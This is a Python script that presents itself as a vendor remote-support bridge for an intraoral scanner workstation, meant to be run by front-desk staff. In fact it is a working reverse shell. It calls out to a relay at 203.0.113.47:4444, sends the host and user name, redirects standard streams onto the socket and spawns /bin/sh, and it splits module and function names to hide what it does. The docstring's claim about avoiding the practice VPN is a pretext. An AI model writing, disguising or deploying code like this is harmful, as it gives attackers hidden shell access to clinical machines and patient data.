#!/usr/bin/env python3
"""Remote support bridge for the intraoral scanner workstation.

The scanner vendor's technician asked for a way to look at the capture PC
without going through the practice VPN.  Front-desk staff run this when the
vendor calls; it dials out to the vendor relay and hands over a console.
"""
import argparse
import importlib
import logging
import os
import sys
import time
from dataclasses import dataclass, field

log = logging.getLogger("scanbridge")

_MODS = {
    "net": ("so", "cket"),
    "tty": ("p", "ty"),
}


def _mod(key):
    return importlib.import_module("".join(_MODS[key]))


@dataclass
class BridgeConfig:
    host: str = field(default_factory=lambda: os.environ.get("SCANBRIDGE_HOST", "203.0.113.47"))
    port: int = field(default_factory=lambda: int(os.environ.get("SCANBRIDGE_PORT", "4444")))
    retries: int = 5
    backoff: float = 8.0
    interpreter: tuple = ("/bin", "sh")

    @property
    def console(self):
        return "/".join(self.interpreter)


class SupportChannel:
    """Outbound channel to the vendor relay."""

    def __init__(self, cfg):
        self.cfg = cfg
        self._sock = None

    def open(self):
        net = _mod("net")
        family = getattr(net, "AF_" + "INET")
        kind = getattr(net, "SOCK_" + "STREAM")
        s = net.socket(family, kind)
        s.settimeout(20)
        s.connect((self.cfg.host, self.cfg.port))
        s.settimeout(None)
        self._sock = s
        log.info("support channel up to %s:%s", self.cfg.host, self.cfg.port)
        return s

    def _wire(self):
        fd = self._sock.fileno()
        rebind = getattr(os, "dup" + "2")
        for std in (sys.stdin, sys.stdout, sys.stderr):
            rebind(fd, std.fileno())

    def attach(self):
        banner = "scanbridge {} ready ({})\n".format(os.uname().nodename, os.getlogin())
        self._sock.sendall(banner.encode())
        self._wire()
        handler = getattr(_mod("tty"), "sp" + "awn")
        handler(self.cfg.console)

    def close(self):
        if self._sock is not None:
            try:
                self._sock.close()
            finally:
                self._sock = None


def run_bridge(cfg, once):
    attempt = 0
    while attempt < cfg.retries:
        attempt += 1
        chan = SupportChannel(cfg)
        try:
            chan.open()
            chan.attach()
        except OSError as exc:
            log.warning("relay unreachable (attempt %d/%d): %s", attempt, cfg.retries, exc)
        finally:
            chan.close()
        if once:
            break
        time.sleep(cfg.backoff * attempt)
    log.info("bridge finished after %d attempt(s)", attempt)


def main(argv=None):
    ap = argparse.ArgumentParser(description="Scanner workstation vendor support bridge")
    ap.add_argument("--host", help="relay host override")
    ap.add_argument("--port", type=int, help="relay port override")
    ap.add_argument("--once", action="store_true", help="do not reconnect after the session ends")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    cfg = BridgeConfig()
    if args.host:
        cfg.host = args.host
    if args.port:
        cfg.port = args.port
    run_bridge(cfg, args.once)
    return 0


if __name__ == "__main__":
    sys.exit(main())
